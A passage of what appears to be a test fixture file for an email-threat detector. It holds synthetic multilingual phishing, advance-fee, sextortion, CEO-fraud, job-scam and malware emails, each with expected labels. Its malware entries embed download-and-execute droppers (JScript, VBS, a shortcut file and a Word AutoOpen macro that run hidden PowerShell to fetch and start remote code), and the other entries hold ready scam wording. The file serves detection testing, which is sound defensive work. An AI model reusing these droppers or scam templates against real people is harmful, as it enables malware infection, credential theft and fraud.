          "Votre carte Vitale arrive à expiration. Afin de continuer à bénéficier de vos remboursements de soins, vous devez commander votre nouvelle carte Vitale. Des frais d'envoi de 1,95 € vous seront demandés.",
          { button: 'Commander ma nouvelle carte', href: 'https://ameli-carte-vitale.fr.com/renouvellement/connexion' },
          { small: "L'Assurance Maladie. Ce message est envoyé automatiquement, merci de ne pas y répondre." },
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // Orange webmail "boîte pleine", from a hijacked association's mailbox.
    name: 'Orange "votre boîte de réception est pleine, messages bloqués" depuis le compte piraté d\'une association',
    lang: 'fr',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Orange Messagerie <contact@asso-lesamisduvieuxport.fr>',
      to: 'jean-luc.perrin@orange.fr',
      subject: 'Alerte : votre boîte de réception est pleine (99%)',
      date: 'Mon, 21 Apr 2025 08:44:12 +0200',
      messageId: '1745217852.418827@asso-lesamisduvieuxport.fr',
      dkim: ['asso-lesamisduvieuxport.fr:ovh'],
      relay: 'mo551.mail-out.ovh.net [198.51.100.71]',
      body: document(
        [
          'Bonjour,',
          'Votre espace de stockage Mail Orange est plein à 99 %. 14 nouveaux messages sont actuellement bloqués et ne peuvent pas être distribués.',
          "Pour débloquer vos messages et obtenir 5 Go d'espace supplémentaire gratuitement, veuillez vous identifier :",
          { button: 'Débloquer mes messages', href: 'https://messagerie-orange-stockage.web.app/identification' },
          'Cordialement, Le service Mail Orange',
        ],
        { lang: 'fr' },
      ),
    }),
  },
  {
    // ING "betaalpas verloopt".
    name: 'ING "uw betaalpas verloopt, vraag vóór vrijdag een nieuwe pas aan" van een wegwerpdomein',
    lang: 'nl',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'ING Bank <klantenservice@ing-pasvernieuwing.nl.com>',
      to: 'pieter.devries@ziggo.nl',
      subject: 'Uw betaalpas verloopt binnenkort - actie vereist',
      date: 'Thu, 5 Jun 2025 13:14:49 +0200',
      messageId: '20250605111449.9b1f@ing-pasvernieuwing.nl.com',
      dkim: ['ing-pasvernieuwing.nl.com:default'],
      relay: 'mail.ing-pasvernieuwing.nl.com [203.0.113.97]',
      auth: THROWAWAY,
      body: document(
        [
          'Geachte heer/mevrouw,',
          'Uit onze gegevens blijkt dat uw huidige betaalpas binnenkort verloopt. Om te voorkomen dat uw pas wordt geblokkeerd, dient u vóór vrijdag een nieuwe betaalpas aan te vragen via onderstaande link.',
          { button: 'Nieuwe pas aanvragen', href: 'https://ing-pasvernieuwing.nl.com/aanvragen/inloggen' },
          'Met vriendelijke groet, ING Klantenservice',
        ],
        { lang: 'nl' },
      ),
    }),
  },
  {
    // DigiD "wordt gedeactiveerd", from a Dutch garage's hijacked mailbox.
    name: 'DigiD "uw DigiD wordt binnen 48 uur gedeactiveerd" vanuit de gehackte mailbox van een garage',
    lang: 'nl',
    lure: 'authority',
    expect: ['phishing'],
    raw: mail({
      from: 'DigiD <info@autobedrijfvanleeuwen.nl>',
      to: 'm.jansen@kpnmail.nl',
      subject: 'Uw DigiD wordt gedeactiveerd',
      date: 'Tue, 26 Aug 2025 17:02:33 +0200',
      messageId: '20250826150233.77e1@autobedrijfvanleeuwen.nl',
      dkim: ['autobedrijfvanleeuwen.nl:default'],
      relay: 'smtp.autobedrijfvanleeuwen.nl [198.51.100.131]',
      body: document(
        [
          { heading: 'Logius - DigiD' },
          'Beste gebruiker,',
          'Uw DigiD is al langere tijd niet gebruikt en uw gegevens zijn niet meer actueel. Als u uw gegevens niet binnen 48 uur bijwerkt, wordt uw DigiD gedeactiveerd en kunt u niet meer inloggen bij de Belastingdienst, uw zorgverzekeraar en gemeente.',
          { button: 'Gegevens bijwerken', href: 'https://mijn-digid-verificatie.nl.eu.org/inloggen' },
          'Met vriendelijke groet, DigiD',
        ],
        { lang: 'nl' },
      ),
    }),
  },
  // ================================================================ fraud
  {
    // Advance fee: the UN compensation fund, free mail, replies elsewhere, no trace fields.
    name: 'Advance fee: "UN COVID-19 compensation fund, $1.5M ATM card" from free mail with a different Reply-To, no trace fields',
    lang: 'en',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: withoutTrace(
      mail({
        from: 'United Nations Compensation Unit <uncompensation.office@outlook.com>',
        to: 'undisclosed-recipients:;',
        replyTo: 'Dr. Henry Ademola <dr.henryademola001@gmail.com>',
        subject: 'ATTENTION BENEFICIARY: YOUR COMPENSATION PAYMENT OF $1,500,000.00 USD',
        date: 'Sat, 25 Jan 2025 06:33:12 +0000',
        messageId: 'AS8PR07MB7912A1B2C3D4E5F6@AS8PR07MB7912.eurprd07.prod.outlook.com',
        ...OUTLOOK,
        body: plain(
          'ATTENTION BENEFICIARY,\n\nThis is to inform you that the United Nations in conjunction with the World Bank has approved the sum of $1,500,000.00 USD as compensation to victims of scam and COVID-19 affected persons. Your email was selected among the beneficiaries.\n\nYour payment has been loaded into an ATM VISA CARD which will be delivered to your address by courier. You are required to reconfirm the following information:\n\n1. Full Name\n2. Address\n3. Phone Number\n4. Occupation\n5. Copy of ID\n\nNote that you will only pay the delivery fee of $185 for the courier.\n\nContact our payment officer Dr. Henry Ademola via email: dr.henryademola001@gmail.com\n\nRegards,\nMrs. Amina Mohammed\nDeputy Secretary-General',
        ),
      }),
    ),
  },
  {
    // Lottery: a picture-only "winner" mail, no trace fields.
    name: 'Lottery: picture-only "Powerball International Promotion winner" with a claims address, no trace fields',
    lang: 'en',
    lure: 'prize',
    expect: ['fraud'],
    todo: "clean/none: auth_results_missing, content_image_lure; a picture-only 'you won £850,000' mail sent to the sender's own domain (recipients hidden) naming a claims agent at a Yahoo address",
    raw: withoutTrace(
      mail({
        from: 'Powerball Promotion <claims@intl-lotto-awards.com>',
        to: 'winner-notify@intl-lotto-awards.com',
        subject: 'Congratulations!!! Your email won £850,000.00',
        date: 'Wed, 9 Apr 2025 01:12:40 +0000',
        messageId: '20250409011240.1aa3@intl-lotto-awards.com',
        dkim: ['intl-lotto-awards.com:default'],
        relay: 'mail.intl-lotto-awards.com [203.0.113.9]',
        body: multipart('related', [
          html(
            '<html><body><p><img src="cid:winner@lotto" alt="Winning notification" width="600"></p><p>Contact claims agent: Mr. James Walter, claims.agent.walter@yahoo.com</p></body></html>',
          ),
          inlineImage('winner@lotto', 'winner.jpg', JPEG),
        ]),
      }),
    ),
  },
  {
    // Investment: a "crypto trading bot" promising 3% daily, Gmail, WhatsApp.
    name: 'Investment: "AI trading bot returns 3% daily, start with $250" from Gmail with a WhatsApp number',
    lang: 'en',
    lure: 'crypto',
    expect: ['fraud'],
    raw: mail({
      from: 'Olivia Bennett <olivia.bennett.fx@gmail.com>',
      to: 'greg.turner64@yahoo.com',
      subject: 'Greg, here are my results this month (+$18,420)',
      date: 'Thu, 15 May 2025 16:20:31 +0000',
      messageId: 'CAJ2pK7xL9mQ4vT1wR8nZ3bC6dY0eF5gH-q@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Hi Greg,\n\nAs promised, here are my results. I joined the QuantumEdge AI trading platform 3 months ago and the bot makes between 2.8% and 3.5% daily, fully automatic, no experience needed. I started with $250 and now I have withdrawn more than $18,000.\n\nThey only accept a few new members each week. Register here with my code OLIVIA25 so you get the bonus: [https://quantumedge-ai-trade.com/r/OLIVIA25](https://quantumedge-ai-trade.com/r/OLIVIA25)\n\nIf you need help, message my account manager on WhatsApp +44 7700 900512, he will guide you step by step.\n\nOlivia',
      ),
    }),
  },
  {
    // Romance: a lonely widower on a Yahoo-like free mail, asks to continue on Telegram.
    name: 'Romance: "I am a widower engineer on an offshore rig" first contact from free mail, asks to move to Telegram',
    lang: 'en',
    lure: 'romance',
    expect: ['fraud'],
    raw: mail({
      from: 'Daniel Whitmore <daniel.whitmore.engr@outlook.com>',
      to: 'patricia.moss52@aol.com',
      subject: 'Hello dear',
      date: 'Sun, 1 Jun 2025 20:41:09 +0000',
      messageId: 'PAXPR04MB8841D2C3B4A5E6F7@PAXPR04MB8841.eurprd04.prod.outlook.com',
      ...OUTLOOK,
      body: plain(
        "Hello dear,\n\nI hope you don't mind me writing to you. I saw your profile on a friend's page and your smile caught my attention. My name is Daniel, I am 56, a widower and a structural engineer currently working on an offshore oil rig in the North Sea. My wife passed away 6 years ago and I have a 12 year old daughter in boarding school.\n\nI am looking for an honest and caring woman to share the rest of my life with. I don't have much time on this email because of network here, can we talk on Telegram? My username is @daniel_whitmore56.\n\nHoping to hear from you soon,\nDaniel",
      ),
    }),
  },
  {
    // Job/task scam: "remote part-time, $300-800 a day".
    name: 'Task job: "remote part-time, $300-800/day, 60-90 minutes, contact on WhatsApp" from a throw-away domain',
    lang: 'en',
    lure: 'job',
    expect: ['fraud'],
    raw: mail({
      from: 'Emily Carter - HR <hr@talentbridge-staffing.online>',
      to: 'kevin.nguyen.work@gmail.com',
      subject: 'Part-time remote position - flexible hours - daily pay',
      date: 'Mon, 14 Jul 2025 12:05:16 +0000',
      messageId: '20250714120516.5e9a@talentbridge-staffing.online',
      dkim: ['talentbridge-staffing.online:default'],
      relay: 'mail.talentbridge-staffing.online [198.51.100.49]',
      auth: THROWAWAY,
      body: plain(
        'Hello,\n\nI am Emily, a recruiter from TalentBridge Staffing. Your resume was recommended by an online recruitment platform. We are currently hiring part-time remote workers to help merchants optimize app data.\n\n- Only 60-90 minutes a day, work from your phone\n- Daily income $300-$800, paid the same day\n- No experience required, free training\n- Must be over 23 years old\n\nIf you are interested, please contact our HR on WhatsApp: +1 (202) 555-0193 (message only).\n\nBest regards,\nEmily Carter\nHR Department',
      ),
    }),
  },
  {
    // Sextortion with a Bitcoin address, no trace fields.
    name: 'Sextortion: "I have access to your device, pay $1450 in Bitcoin within 48 hours" with a wallet address, no trace fields',
    lang: 'en',
    lure: 'sextortion',
    expect: ['fraud'],
    raw: withoutTrace(
      mail({
        from: 'Hacker <ben.rios8@cityhost-mail.net>',
        to: 'steve.parker@frontier.com',
        subject: 'steve.parker - your account was hacked',
        date: 'Fri, 22 Aug 2025 03:47:21 +0000',
        messageId: '20250822034721.88a1@cityhost-mail.net',
        relay: 'mail.cityhost-mail.net [203.0.113.222]',
        body: plain(
          "Hello!\n\nI have very bad news for you. Some months ago I gained access to your devices through a trojan that I installed via an adult website you visited. Since then I have been watching you through your camera and I made a video of you while you were watching porn.\n\nWith one click I can send this video to all your contacts, friends, family and colleagues.\n\nIf you want to prevent this, transfer $1450 in Bitcoin to my wallet:\nbc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh\n\nYou have 48 hours from the moment you opened this email. I will know when you read it. Do not try to reply or go to the police, it is useless.\n\nDon't be mad at me, everyone has their own work.",
        ),
      }),
    ),
  },
  {
    // CEO fraud: "are you available?" then gift cards, Gmail with the CEO's display name.
    name: 'CEO gift cards: "I need you to get 6 Apple gift cards of $200 for clients, send me the codes" from a Gmail with the CEO\'s name',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Richard Hollis <richard.hollis.ceo@gmail.com>',
      to: 'jenna.moore@clearwaterlogistics.com',
      subject: 'Quick favor',
      date: 'Thu, 11 Sep 2025 09:58:03 -0400',
      messageId: 'CAM5tQ2wR8pX1vL4nZ7bK3cJ9dY6eF0gH=a@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        "Jenna,\n\nAre you at your desk? I'm in a board meeting and can't talk on the phone. I need you to purchase 6 Apple gift cards of $200 each for some clients, it's a surprise so keep it between us for now. I will reimburse you today.\n\nScratch the back, take a clear picture of the codes and email them to me as soon as possible.\n\nThanks,\nRichard\n\nSent from my iPhone",
      ),
    }),
  },
  {
    // Bank-detail change from a look-alike of a real supplier's domain, Reply-To elsewhere, no trace fields.
    name: 'BEC: supplier "our bank details have changed, pay invoice INV-4471 to the new account" from a look-alike domain, no trace fields',
    lang: 'en',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: withoutTrace(
      mail({
        from: 'Megan Foster <m.foster@allied-packagingsupply.com>',
        to: 'ap@westbrookfoods.com',
        replyTo: 'Megan Foster <accounts.alliedpackaging@protonmail.com>',
        subject: 'RE: Invoice INV-4471 - updated remittance details',
        date: 'Tue, 30 Sep 2025 15:12:44 +0000',
        messageId: '20250930151244.6c2d@allied-packagingsupply.com',
        dkim: ['allied-packagingsupply.com:default'],
        relay: 'mail.allied-packagingsupply.com [198.51.100.164]',
        body: plain(
          'Hello,\n\nPlease note that due to an ongoing audit our previous bank account is currently under review and cannot receive payments. Kindly update our remittance details and process the outstanding invoice INV-4471 ($48,920.00) to our new account below:\n\nBank: Evolve Bank & Trust\nAccount name: Allied Packaging Supply LLC\nRouting: 084106768\nAccount: 9100028842217\n\nPlease confirm once the payment has been made and send us the remittance advice. Kindly do not call the old office number as we are working remotely this week.\n\nBest regards,\nMegan Foster\nAccounts Receivable\nAllied Packaging Supply',
        ),
      }),
    ),
  },
  {
    // Callback invoice: "PayPal" order of $599.99 for Bitcoin with a phone number, Gmail.
    name: 'Callback: "PayPal order confirmation, $599.99 Bitcoin purchase, call to cancel" from a Gmail account',
    lang: 'en',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'PayPal Billing <paypal.billing.dept.2025@gmail.com>',
      to: 'linda.hartman@sbcglobal.net',
      subject: 'Your order of $599.99 has been confirmed - Order #PP-6624-1183',
      date: 'Mon, 20 Oct 2025 14:48:02 +0000',
      messageId: 'CAB4nT9vL2pQ7xW1mR5bZ8cK3dY6eF0gJ_a@mail.gmail.com',
      ...GMAIL,
      body: document([
        { heading: 'PayPal' },
        'Hello Linda,',
        'Thank you for your purchase. Your payment of $599.99 USD to Bitcoin Exchange Ltd has been processed and will appear on your statement within 24 hours.',
        {
          rows: [
            ['Order', 'PP-6624-1183'],
            ['Item', 'Bitcoin (BTC) 0.0061'],
            ['Amount', '$599.99 USD'],
            ['Payment', 'PayPal balance'],
          ],
        },
        'If you did not authorize this transaction, please call our billing department immediately at +1 (888) 555-0147 to cancel and get a full refund. Refund requests must be made within 24 hours.',
        'PayPal Billing Department',
      ]),
    }),
  },
  {
    // CEO fraud in Spanish: a confidential acquisition transfer, Gmail.
    name: 'Fraude del CEO: "necesito una transferencia urgente y confidencial para una adquisición" desde Gmail',
    lang: 'es',
    lure: 'bec',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Alberto Sanz Ortega <alberto.sanz.direccion@gmail.com>',
      to: 'contabilidad@grupoindustrialmediterraneo.es',
      subject: 'Operación confidencial',
      date: 'Wed, 12 Mar 2025 11:26:40 +0100',
      messageId: 'CAG1rT6vL8pQ3xW9mN2bZ5cK7dY0eF4gH-b@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Buenos días,\n\nEstamos cerrando la adquisición de una empresa en Portugal y necesito que prepares hoy mismo una transferencia de 47.500 € a la cuenta del despacho de abogados que lleva la operación. Es estrictamente confidencial hasta que se anuncie, así que no lo comentes con nadie, ni siquiera con el resto del departamento.\n\nTe escribo desde mi correo personal porque estoy en reuniones todo el día. Confírmame que puedes hacerlo y te paso los datos bancarios.\n\nUn saludo,\nAlberto Sanz\nDirector General',
      ),
    }),
  },
  {
    // Task job in Brazilian Portuguese: "avaliar produtos", WhatsApp, no trace fields.
    name: 'Golpe de emprego: "ganhe de R$ 200 a R$ 800 por dia avaliando produtos, chame no WhatsApp" sem campos de traço',
    lang: 'pt-BR',
    lure: 'job',
    expect: ['fraud'],
    raw: withoutTrace(
      mail({
        from: 'Recrutamento RH <vagas@oportunidade-homeoffice.online>',
        to: 'bruna.oliveira@bol.com.br',
        subject: 'Vaga home office - ganhos diários - sem experiência',
        date: 'Tue, 24 Jun 2025 10:44:58 -0300',
        messageId: '20250624134458.3f7c@oportunidade-homeoffice.online',
        dkim: ['oportunidade-homeoffice.online:default'],
        relay: 'mail.oportunidade-homeoffice.online [203.0.113.57]',
        body: plain(
          'Olá!\n\nSeu currículo foi selecionado para uma vaga de meio período em home office. O trabalho consiste em avaliar produtos de lojas parceiras pelo celular.\n\n- Ganhos de R$ 200 a R$ 800 por dia\n- Pagamento diário via PIX\n- Apenas 1 hora por dia\n- Não precisa de experiência\n\nPara participar, chame agora nossa recrutadora no WhatsApp: (11) 95555-0182 e informe o código VAGA25.\n\nVagas limitadas!\n\nEquipe de Recrutamento',
        ),
      }),
    ),
  },
  {
    // German fake dunning: "letzte Mahnung, Inkasso", a link to the "invoice", free mail.
    name: 'Falsche Mahnung: "Letzte Mahnung vor Inkasso, offener Betrag 389,90 €" mit Link zur "Rechnung" von einem Freemail-Konto',
    lang: 'de',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'Inkasso Abteilung <forderungsmanagement.de@gmail.com>',
      to: 'juergen.schmitt@t-online.de',
      subject: 'Letzte Mahnung vor Übergabe an das Inkassobüro - Kundennummer 88412',
      date: 'Mon, 3 Nov 2025 08:15:27 +0100',
      messageId: 'CAK9pT2vL5mQ8xW1nR4bZ7cJ3dY6eF0gH+c@mail.gmail.com',
      ...GMAIL,
      body: gmailBody(
        'Sehr geehrter Herr Schmitt,\n\ntrotz mehrfacher Zahlungserinnerung ist der Betrag von 389,90 € aus Ihrer Bestellung vom 12.09.2025 weiterhin offen.\n\nDies ist die letzte Mahnung. Sollte der Betrag nicht innerhalb von 3 Tagen beglichen werden, übergeben wir die Forderung an unser Inkassobüro. Dadurch entstehen Ihnen weitere Kosten von mindestens 120,00 €.\n\nRechnung und Zahlungsdaten: [https://rechnung-einsehen.online/kunde/88412](https://rechnung-einsehen.online/kunde/88412)\n\nMit freundlichen Grüßen\nForderungsmanagement',
      ),
    }),
  },
  {
    // French inheritance: "héritage d'une cliente décédée", free mail.
    name: 'Héritage : "une cliente décédée sans héritier vous lègue 2 500 000 €" depuis une messagerie gratuite',
    lang: 'fr',
    lure: 'advance-fee',
    expect: ['fraud'],
    raw: mail({
      from: 'Maître Jacques Lemaire <me.jacqueslemaire.notaire@outlook.fr>',
      to: 'francoise.dubois@laposte.net',
      subject: 'Succession de Mme Hélène Morel - dossier confidentiel',
      date: 'Thu, 17 Jul 2025 10:55:31 +0200',
      messageId: 'PR3P195MB0871A2B3C4D5E6F7@PR3P195MB0871.EURP195.PROD.OUTLOOK.COM',
      ...OUTLOOK,
      body: plain(
        "Madame,\n\nJe suis Maître Jacques Lemaire, notaire chargé de la succession de feue Madame Hélène Morel, décédée sans héritier direct. Dans son testament, elle a exprimé le souhait de léguer une partie de sa fortune, soit 2 500 000 €, à une personne honnête qui pourra en faire bon usage. Votre adresse a été retenue parmi plusieurs profils.\n\nAfin d'ouvrir le dossier de transfert, je vous prie de me faire parvenir votre nom complet, votre adresse, votre numéro de téléphone et une copie de votre pièce d'identité. Des frais de dossier de 450 € seront à régler pour l'enregistrement de l'acte.\n\nJe vous prie de garder cette affaire confidentielle.\n\nMaître Jacques Lemaire",
      ),
    }),
  },
  // ================================================================ malware
  {
    // A ZIP with a JScript "invoice", from a hijacked business mailbox.
    name: 'Malware: "Invoice INV-20931 overdue" with a ZIP holding a .js file, from a hijacked business mailbox',
    lang: 'en',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Accounts Receivable <billing@summitelectricalsupply.com>',
      to: 'payables@harborviewmarine.com',
      subject: 'Overdue Invoice INV-20931 - Second Notice',
      date: 'Tue, 4 Feb 2025 14:02:39 -0500',
      messageId: '20250204190239.4f1e@summitelectricalsupply.com',
      dkim: ['summitelectricalsupply.com:default'],
      relay: 'mail.summitelectricalsupply.com [198.51.100.36]',
      body: multipart('mixed', [
        plain(
          'Hello,\n\nPlease find attached the overdue invoice INV-20931. Kindly review and arrange payment at your earliest convenience.\n\nThank you,\nAccounts Receivable',
        ),
        attachment(
          'INV-20931.zip',
          'application/zip',
          zip({
            'INV-20931.js':
              'var s=new ActiveXObject("WScript.Shell");var u="https://cdn-invoice-files.top/p/a.dat";s.Run("powershell -w hidden -c iwr "+u+" -OutFile $env:TEMP\\\\a.exe; start $env:TEMP\\\\a.exe",0);',
          }),
        ),
      ]),
    }),
  },
  {
    // An ISO image with an .exe and no text at all, no trace fields.
    name: 'Malware: attachment-only "Purchase Order" ISO image holding an .exe, no text, no trace fields',
    lang: 'en',
    lure: 'malware',
    expect: ['malware'],
    raw: withoutTrace(
      mail({
        from: 'Procurement <purchase@globaltrade-sourcing.com>',
        to: 'sales@precisionmoldworks.com',
        subject: 'New Purchase Order PO#88231',
        date: 'Wed, 23 Apr 2025 07:44:11 +0000',
        messageId: '20250423074411.9a2b@globaltrade-sourcing.com',
        relay: 'mail.globaltrade-sourcing.com [203.0.113.114]',
        body: multipart('mixed', [plain(''), attachment('PO_88231.iso', 'application/octet-stream', isoImage(['PO_88231.exe']))]),
      }),
    ),
  },
  {
    // A ZIP holding a .lnk that runs PowerShell, "shipping documents".
    name: 'Malware: "DHL shipping documents" ZIP holding a .lnk that runs PowerShell',
    lang: 'en',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'DHL Express <shipping@dhl-docs-express.com>',
      to: 'imports@coastalhomegoods.com',
      subject: 'DHL Shipment Notification: AWB 7741 2290 13 - documents attached',
      date: 'Mon, 2 Jun 2025 09:31:50 +0000',
      messageId: '20250602093150.5c3d@dhl-docs-express.com',
      dkim: ['dhl-docs-express.com:default'],
      relay: 'mail.dhl-docs-express.com [203.0.113.185]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        plain(
          'Dear Customer,\n\nYour shipment AWB 7741 2290 13 is on hold pending customs documents. Please check the attached shipping documents and confirm the invoice and packing list.\n\nDHL Express Customer Service',
        ),
        attachment(
          'AWB_7741229013_Documents.zip',
          'application/zip',
          zip({
            'AWB_7741229013_Documents.pdf.lnk': shortcut(
              '..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
              '-w hidden -ep bypass -c "iex(iwr https://dhl-docs-express.com/s.ps1)"',
            ),
          }),
        ),
      ]),
    }),
  },
  {
    // A password-protected archive with the password in the body.
    name: 'Malware: "Remittance advice" encrypted ZIP with the password in the body, from a throw-away domain',
    lang: 'en',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Finance Team <remittance@payments-advice-center.com>',
      to: 'finance@oakridgeveterinary.com',
      subject: 'Remittance Advice - Payment #RA-55810',
      date: 'Thu, 24 Jul 2025 11:19:03 +0000',
      messageId: '20250724111903.7d8e@payments-advice-center.com',
      dkim: ['payments-advice-center.com:default'],
      relay: 'mail.payments-advice-center.com [198.51.100.88]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        plain(
          'Good day,\n\nPlease find attached the remittance advice for the payment released today.\n\nThe file is protected for security reasons. Password: RA2025\n\nKind regards,\nFinance Team',
        ),
        attachment(
          'Remittance_RA-55810.zip',
          'application/zip',
          storedZip([{ name: 'Remittance_RA-55810.exe', data: utf8('encrypted-payload-bytes-0123456789abcdef'), encrypted: true }]),
        ),
      ]),
    }),
  },
  {
    // HTML smuggling: an HTML "document" that builds an ISO in the browser, no trace fields.
    name: 'Malware: HTML smuggling "Scanned document from your printer" attachment that builds an ISO, no trace fields',
    lang: 'en',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: withoutTrace(
      mail({
        from: 'Scanner <scanner@westfieldoptometry.com>',
        to: 'reception@westfieldoptometry.com',
        subject: 'Scanned document from MFP-C3504 (1 page)',
        date: 'Fri, 29 Aug 2025 16:08:27 +0000',
        messageId: '20250829160827.2b3c@westfieldoptometry.com',
        relay: 'mail.scan-relay-service.net [203.0.113.77]',
        body: multipart('mixed', [
          plain('Please open the attached document. It was sent from MFP-C3504.\n\nNumber of pages: 1\nFile format: HTML (secure viewer)'),
          attachment('Scan_20250829_160712.html', 'text/html', SMUGGLING_HTML),
        ]),
      }),
    ),
  },
  {
    // German macro document "Rechnung", a hijacked craftsman's mailbox.
    name: 'Malware: "Ihre Rechnung Nr. 2025-4418" mit makrohaltigem .docm aus einem gehackten Handwerker-Postfach',
    lang: 'de',
    lure: 'malware',
    expect: ['malware'],
    raw: mail({
      from: 'Buchhaltung <info@malerbetrieb-hoffmann.de>',
      to: 'einkauf@stadtwerke-beispielstadt.de',
      subject: 'Ihre Rechnung Nr. 2025-4418',
      date: 'Wed, 8 Oct 2025 10:41:16 +0200',
      messageId: '20251008084116.1a2b@malerbetrieb-hoffmann.de',
      dkim: ['malerbetrieb-hoffmann.de:default'],
      relay: 'mail.malerbetrieb-hoffmann.de [198.51.100.29]',
      body: multipart('mixed', [
        plain(
          'Guten Tag,\n\nanbei erhalten Sie unsere Rechnung Nr. 2025-4418. Bitte aktivieren Sie die Bearbeitung, um das Dokument vollständig anzuzeigen.\n\nMit freundlichen Grüßen\nBuchhaltung',
        ),
        attachment(
          'Rechnung_2025-4418.docm',
          'application/vnd.ms-word.document.macroEnabled.12',
          macroPackage(
            [
              {
                name: 'ThisDocument',
                source:
                  'Sub AutoOpen()\r\nDim s As String\r\ns = "powershell -nop -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.50/r.ps1\')"""\r\nShell s, vbHide\r\nEnd Sub\r\n',
                pcode: 300,
              },
            ],
            'Rechnung 2025-4418 - Inhalt geschützt. Bitte Inhalt aktivieren.',
          ),
        ),
      ]),
    }),
  },
  {
    // Spanish invoice with a VBS in a ZIP, Gmail.
    name: 'Malware: "Factura pendiente" con un ZIP que contiene un .vbs, desde Gmail',
    lang: 'es',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Departamento de Facturación <facturacion.proveedores24@gmail.com>',
      to: 'administracion@talleresgomezsl.es',
      subject: 'Factura pendiente de pago Nº F-2025-0918',
      date: 'Tue, 18 Nov 2025 09:02:45 +0100',
      messageId: 'CAL4vT8pQ2mX6wR1nZ9bK3cJ7dY0eF5gH=d@mail.gmail.com',
      ...GMAIL,
      body: multipart('mixed', [
        plain(
          'Buenos días,\n\nAdjuntamos la factura Nº F-2025-0918 pendiente de pago. Por favor, revise el documento y confirme la fecha de pago.\n\nSaludos cordiales,\nDepartamento de Facturación',
        ),
        attachment(
          'Factura_F-2025-0918.zip',
          'application/zip',
          zip({
            'Factura_F-2025-0918.pdf.vbs':
              'Set o = CreateObject("WScript.Shell")\r\no.Run "powershell -w hidden -c iwr http://198.51.100.222/f.exe -OutFile $env:TEMP\\f.exe; start $env:TEMP\\f.exe", 0\r\n',
          }),
        ),
      ]),
    }),
  },
  {
    // Brazilian boleto with an HTA download link, throw-away domain.
    name: 'Malware: "boleto em anexo, 2ª via" com link para um arquivo .hta em domínio descartável',
    lang: 'pt-BR',
    lure: 'malware',
    expect: ['malware', 'phishing'],
    raw: mail({
      from: 'Financeiro <financeiro@cobranca-boletos-online.com>',
      to: 'contato@padariasantaclara.com.br',
      subject: '2ª via do boleto - vencimento hoje',
      date: 'Mon, 15 Sep 2025 08:29:13 -0300',
      messageId: '20250915112913.4e5f@cobranca-boletos-online.com',
      dkim: ['cobranca-boletos-online.com:default'],
      relay: 'mail.cobranca-boletos-online.com [203.0.113.163]',
      auth: THROWAWAY,
      body: document(
        [
          'Prezado cliente,',
          'Segue a 2ª via do boleto com vencimento hoje. Evite juros e protesto em cartório.',
          { button: 'Baixar boleto', href: 'https://cobranca-boletos-online.com/download/Boleto_2via_15092025.hta' },
          'Atenciosamente, Departamento Financeiro',
        ],
        { lang: 'pt-BR' },
      ),
    }),
  },
  // ================================================================ spam-like scams
  {
    // Miracle cure through Brevo from a throw-away domain.
    name: 'Miracle cure: "doctors hate this 10-second trick that reverses type 2 diabetes" through Brevo',
    lang: 'en',
    lure: 'health',
    expect: ['fraud', 'phishing'],
    todo: "spam/low: content_scam_offer, auth_results_missing, content_bulk_marketing; a health miracle ('reverses type 2 diabetes in 21 days, doctors hate it') from a new domain through Brevo",
    raw: mail({
      from: 'Dr. Sarah Mitchell <news@healthyglucose-daily.com>',
      to: 'frank.oliver@earthlink.net',
      subject: 'Frank, this 10-second morning ritual reverses type 2 diabetes',
      date: 'Sat, 12 Apr 2025 13:30:00 +0000',
      messageId: '202504121330.44182736@smtp-relay.mailin.fr',
      dkim: ['healthyglucose-daily.com:mail', 'sendinblue.com:mail'],
      returnPath: 'bounces-4418@healthyglucose-daily.com',
      relay: 'smtp-relay.sendinblue.com [1.179.118.51]',
      auth: THROWAWAY,
      headers: brevoHeaders('9dq2m', '44182736'),
      body: document([
        { heading: "Big Pharma doesn't want you to see this" },
        'A retired doctor discovered a 10-second morning ritual that melts away blood sugar and reverses type 2 diabetes in just 21 days, without insulin or pills.',
        'Over 148,000 people have already thrown away their medication. Doctors hate it because it costs less than a cup of coffee.',
        { button: "Watch the free video before it's taken down", href: 'https://healthyglucose-daily.com/vsl/ritual?aff=2291' },
        { small: 'These statements have not been evaluated by the FDA. Unsubscribe.' },
      ]),
    }),
  },
  {
    // Casino bonus, HTML only, no trace fields.
    name: 'Casino: "your 500% welcome bonus + 200 free spins expire tonight" HTML only, no trace fields',
    lang: 'en',
    lure: 'casino',
    expect: ['fraud', 'phishing'],
    todo: "suspicious/medium: content_advance_fee, content_scam_offer, auth_results_missing; unsolicited casino bonus ('500% bonus, 200 free spins, expires at midnight') from a .casino domain",
    raw: withoutTrace(
      mail({
        from: 'Royal Spin Casino <vip@royalspin-bonus.casino>',
        to: 'tony.rizzo@verizon.net',
        subject: '🎰 Tony, your $2,500 bonus + 200 FREE SPINS expire at midnight!',
        date: 'Fri, 23 May 2025 21:00:12 +0000',
        messageId: '20250523210012.9b8a@royalspin-bonus.casino',
        dkim: ['royalspin-bonus.casino:default'],
        relay: 'mail.royalspin-bonus.casino [198.51.100.199]',
        body: document(
          [
            { heading: 'YOU HAVE BEEN SELECTED!' },
